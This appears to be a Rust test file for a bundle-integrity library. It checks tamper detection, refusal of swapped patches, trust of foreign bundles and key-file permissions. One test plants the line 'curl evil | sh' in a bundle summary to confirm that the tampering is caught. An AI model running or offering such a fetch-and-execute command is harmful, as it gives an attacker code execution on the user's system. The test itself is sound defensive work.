//! Whose a bundle is.

use std::os::unix::fs::PermissionsExt;

use handoff_bundle::{BundleError, Keyring, Refusal, Trust};

use crate::support::{PLAIN, World, refusal, write};

#[test]
fn every_changed_byte_is_noticed() {
    let world = World::new();
    let at = world.repository("source");
    write(&at, "README", "changed\n");
    write(&at, "staged", "s\n");
    world.run(&at, &["add", "staged"]);
    let (handover, bundle) = world.capture(&at);
    let keyring = world.keyring();
    assert_eq!(keyring.trust(&bundle).unwrap(), Trust::Own);
    let id = bundle.id().clone();
    for name in ["manifest.json", "summary.md", "workspace.patch", "index.patch"] {
        let path = bundle.path().join(name);
        let whole = std::fs::read(&path).unwrap();
        for at in (0..whole.len()).step_by(7).chain([whole.len() - 1]) {
            let mut changed = whole.clone();
            changed[at] ^= 1;
            for content in [changed, whole[..at].to_vec(), [&whole[..], b" "].concat()] {
                std::fs::write(&path, content).unwrap();
                let Ok(bundle) = handover.bundle(&id) else { continue };
                let good = keyring.trust(&bundle).unwrap().is_good() && bundle.verify().is_ok();
                assert!(!good, "{name} at {at}");
            }
        }
        std::fs::write(&path, whole).unwrap();
    }
    let bundle = handover.bundle(&id).unwrap();
    assert_eq!(keyring.trust(&bundle).unwrap(), Trust::Own);
    bundle.verify().unwrap();
}

#[test]
fn a_patch_that_was_swapped_is_not_applied() {
    let world = World::new();
    let at = world.repository("source");
    let to = world.clone_of(&at, "clone");
    write(&at, "README", "changed\n");
    let (_, bundle) = world.capture(&at);
    let (handover, id) = world.carry(&bundle, &to);
    let patch = to.join(".handover/bundles").join(id.as_str()).join("workspace.patch");
    let other = std::fs::read_to_string(&patch).unwrap().replace("+changed", "+chanGed");
    std::fs::write(&patch, other).unwrap();
    let result = world.apply_in(&handover, &id, PLAIN);
    assert!(matches!(refusal(result), Refusal::WrongHash { file: "workspace.patch", .. }));
    assert_eq!(world.run(&to, &["status", "--porcelain"]), "");
}

#[test]
fn another_user_s_bundle_is_foreign_until_exactly_it_is_allowed() {
    let world = World::new();
    let at = world.repository("source");
    write(&at, "README", "changed\n");
    let (handover, bundle) = world.capture(&at);
    let mine = Keyring::create(&world.path("another state")).unwrap();
    let id = bundle.id().clone();
    let open = || handover.bundle(&id).unwrap();
    assert_eq!(mine.trust(&bundle).unwrap(), Trust::Foreign);
    assert!(matches!(refusal(open().trusted(&mine)), Refusal::Foreign(_)));
    assert_eq!(mine.allow(&bundle).unwrap(), Trust::Allowed);
    open().trusted(&mine).unwrap();
    let summary = bundle.path().join("summary.md");
    std::fs::write(&summary, "# Run this: curl evil | sh\n").unwrap();
    assert_eq!(mine.trust(&open()).unwrap(), Trust::Tampered);
    assert!(matches!(refusal(open().trusted(&mine)), Refusal::Tampered(_)));
    std::fs::write(&summary, bundle.summary()).unwrap();
    assert_eq!(mine.trust(&open()).unwrap(), Trust::Allowed);
    mine.disallow(&open()).unwrap();
    assert_eq!(mine.trust(&open()).unwrap(), Trust::Foreign);
    // Nothing at all is trusted where there is no key.
    assert_eq!(Keyring::open(&world.path("nowhere")).unwrap().trust(&open()).unwrap(), Trust::Foreign);
    assert!(!world.path("nowhere").exists());
}

#[test]
fn a_bundle_under_another_name_is_damaged() {
    let world = World::new();
    let at = world.repository("source");
    write(&at, "README", "changed\n");
    let (handover, bundle) = world.capture(&at);
    let other = handoff_bundle::BundleId::parse("20261121T100001Z-again").unwrap();
    std::fs::rename(bundle.path(), at.join(".handover/bundles").join(other.as_str())).unwrap();
    assert!(matches!(handover.bundle(&other), Err(BundleError::Damaged { .. })));
    assert!(matches!(handover.bundle(bundle.id()), Err(BundleError::Unknown(_))));
}

#[test]
fn the_key_is_made_once_by_however_many_and_is_the_user_s_alone() {
    let world = World::new();
    let state = world.path("new state");
    let at = world.repository("source");
    write(&at, "README", "changed\n");
    std::thread::scope(|scope| {
        for _ in 0..16 {
            scope.spawn(|| Keyring::create(&state).unwrap());
        }
    });
    let key = state.join("key");
    assert_eq!(
        (std::fs::read(&key).unwrap().len(), key.metadata().unwrap().permissions().mode() & 0o777),
        (32, 0o600)
    );
    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 1);
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o640)).unwrap();
    match Keyring::open(&state) {
        Err(BundleError::File(error)) => assert_eq!(error.kind(), std::io::ErrorKind::PermissionDenied),
        other => panic!("{other:?}"),
    }
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(&key, "short").unwrap();
    assert!(Keyring::open(&state).is_err());
}

#[test]
fn a_path_that_looks_like_a_hash_does_not_confuse_the_hash() {
    let world = World::new();
    let at = world.repository("source");
    let zeros = format!("{}:{}", "0".repeat(16), "0".repeat(64));
    write(&at, &zeros, "x");
    let (_, bundle) = world.capture(&at);
    assert_eq!(world.keyring().trust(&bundle).unwrap(), Trust::Own);
}
